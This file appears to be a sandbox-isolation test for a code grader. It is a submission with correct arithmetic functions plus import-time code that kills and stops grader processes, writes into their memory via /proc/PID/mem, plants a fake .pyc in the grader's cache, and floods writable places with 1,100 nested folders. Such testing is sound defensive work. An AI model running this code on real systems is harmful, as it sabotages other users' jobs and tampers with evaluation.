"""expect: points=4 state=done

Right answers, and on import: SIGKILL and SIGSTOP to every process it can find that runs the
grader (other students' runs, the grader itself), a write into the memory of each through
/proc/PID/mem, a .pyc planted in the kit's grader/__pycache__, and 1,100 nested folders in
every place it can write. Behind the namespaces it sees only its own run and init, which it
may neither stop nor write; the kit is read-only; the folders go with its private /tmp."""

import os
import signal
from pathlib import Path

import grader

for _entry in Path("/proc").glob("[0-9]*"):
    _pid = int(_entry.name)
    if _pid == os.getpid():
        continue
    try:
        if b"grader" not in (_entry / "cmdline").read_bytes():
            continue
        with open(_entry / "mem", "r+b") as _mem:
            _mem.seek(0x400000)
            _mem.write(b"\0" * 64)
    except OSError:
        pass
    for _signal in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(_pid, _signal)
        except OSError:
            pass
try:
    (Path(grader.__file__).parent / "__pycache__" / "kata_planted.cpython-311.pyc").write_bytes(b"planted")
except OSError:
    pass
for _base in (Path.cwd(), Path(os.environ.get("TMPDIR", "/tmp")), Path.home()):
    try:
        _deep = _base
        for _ in range(1100):
            _deep = _deep / "d"
            _deep.mkdir()
    except OSError:
        pass


def add(a, b):
    return a + b


def scale(x, k=2):
    return x * k
